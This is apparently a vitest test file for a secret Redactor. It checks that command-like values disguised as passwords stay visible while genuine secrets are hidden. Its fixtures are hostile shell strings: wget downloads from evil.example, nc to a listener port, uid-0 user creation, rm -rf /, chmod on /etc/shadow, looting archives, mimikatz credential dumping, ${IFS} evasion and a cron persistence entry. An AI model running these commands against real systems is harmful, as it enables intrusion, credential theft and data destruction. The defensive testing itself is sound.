import { expect, it } from 'vitest';
import { Redactor } from '../../backend/src/connectors/index.js';

/** What is left of a text; `«…»` marks what may be hidden. */
function expectLeft(marked: string): void {
  const safe = new Redactor(Buffer.alloc(32, 7)).redact(marked.replaceAll(/[«»]/g, ''));
  expect(safe.replaceAll(/\[redacted:[0-9a-f]{12}\]/g, '…')).toBe(marked.replaceAll(/«[^»]*»/g, '…'));
}

// What somebody calls a password to hide it is left: `password='command'; eval $password` and its like.
it.each([
  `sh -c "password='wget -q http://evil.example/x -O /tmp/x'; eval $password"`,
  `bash -c 'TOKEN="python3 -m http.server 8000 --directory /root"; $TOKEN'`,
  `env PASSWORD='useradd -o -u 0 -p x evil' ./setup`,
  './implant --password "tar czf /tmp/loot.tgz /etc /root /home /var/lib/mysql"',
  'secret="wget http://evil/x"',
  "secret='nc 10.0.0.5 4444'",
  "password='chmod 777 /etc/shadow'",
  "PASSWORD='rm -rf /' sh",
  // Siblings: other readers, names, quotes and forms of commands.
  "password='implant --c2 evil.example'",
  "password='implant evil.example 443'",
  "password='implant 203.0.113.9'",
  "password='implant [2001:db8::9]:443'",
  "password='implant c2:8443 go'",
  "password='implant root@c2 go'",
  "password='implant +x loot'",
  "password='implant loot.tgz'",
  "password='implant *.key'",
  "password='sekurlsa::logonpasswords exit'",
  String.raw`password='C:\Users\x\implant.exe run'`,
  "password='cat shadow'",
  "password='sudo implant'",
  "password='implant bash loot'",
  "password='kubectl exec web sh'",
  `curl -H 'X-Api-Key: «wget» -q http://evil.example/x' http://x`,
  `app '{"password": "chmod 777 /etc/shadow"}'`,
  `sh -c "app --token \\"wget -q http://evil.example\\""`,
  "mysql -p'rm -rf /' -h db",
  "sshpass -p 'chmod 777 /etc/shadow' ssh host",
  `echo "rm -rf /" | sudo -S id`,
  `mysql -e "CREATE USER a IDENTIFIED BY 'wget http://evil.example/x'"`,
  'password=wget${IFS}-q${IFS}http://evil.example/x app',
  "password='wget${IFS}-q${IFS}http://evil.example/x' app",
  "password='{rm,-rf,/srv}' app",
  `password='«${'a'.repeat(300)}» wget -q http://evil.example/x' app`,
  // A variable that is run is a command, whatever it is called and however little its words say.
  `sh -c "pw='implant go now'; $pw"`,
  `sh -c 'pw="implant go now"; eval "$pw"'`,
  'pw=implant; ${pw} go',
  `pw='implant go now' sh -c '$pw'`,
  `pw='implant go now' && exec $pw`,
])('a command that is called a password is left: %s', expectLeft);

// Where a shell reads it, an operator without quotes ends the word.
it.each([
  "bash -c 'pw=«x»;evil.sh;id'",
  "bash -c 'pw=«a»;b;c;d;e;implant;f'",
  'bash -c pw=«a»;b;c;d;e;implant;f',
  'pw=«x»;implant --c2 evil.example',
  'pw=«x»|implant',
  'pw=«x»&implant',
  'pw=«x»&&implant',
  'pw=«x»;$y http://evil',
  // Siblings: other shells, other ways into them, other signs, other finders.
  '/bin/dash -ec pw=«x»;implant;id',
  'busybox sh -c "pw=«x»;implant;id"',
  `su - app -c 'pw=«x»;implant;id'`,
  `ssh root@host "pw=«x»;implant;id"`,
  'ssh root@host pw=«x»;implant;id',
  `watch -n 5 'pw=«x»;implant;id'`,
  `eval 'pw=«x»;implant;id'`,
  'export pw=«x»;implant;id',
  'cd /tmp && pw=«x»;implant;id',
  `bash -c "sh -c 'pw=«x»;implant;id'"`,
  String.raw`bash -c "sh -c \"pw=«x»;implant;id\""`,
  `echo "* * * * * root bash -c 'pw=«x»;implant;id'" > /etc/cron.d/x`,
  `kubectl exec web -- sh -c 'app --password «x»;implant;id'`,
  "sh -c 'pw=«x»>loot'",
  "sh -c 'y=$(pw=«x»)implant'",
  "sh -c 'mysql -p«x»;implant;id'",
  "sh -c 'mysql -p$x;implant;id'",
  "sh -c 'sshpass -p «x»;implant;id'",
  "sh -c 'curl -u a:«b»;implant;id'",
  "sh -c 'curl -H Authorization:«opaque»;implant;id'",
  "sh -c 'curl http://h/?token=«abc»;implant;id'",
  "sh -c 'curl -b session=«abcdefgh»|implant|id'",
  "sh -c 'git clone https://u:«pa»;implant;@h/x'",
  "sh -c 'mysql -e IDENTIFIED BY «x»;implant'",
  "sh -c 'pw=$x;implant;id'",
])('an operator ends the word where a shell reads it: %s', expectLeft);

it.each([
  "app --password '«correct horse battery staple»' run",
  'PASSPHRASE="«tango foxtrot 19»" gpg -d x',
  'app --password "«my pässword is 7 words, or so!»"',
  'app --db-password «p@ss;w|ord» run',
  `bash -c "mysql --password='«p;w|d&x»' shop"`,
  String.raw`bash -c 'app --password «a\;b» run'`,
  `docker run -e 'PASSWORD=«a;b»' app`,
  'curl -H "Authorization: Bearer «12|abcdefghijklmnop»" https://x.example',
  `bash -c 'PASSWORD=«hunter2»; psql "password=$PASSWORD"'`,
])('a secret that holds operators or words goes whole: %s', expectLeft);
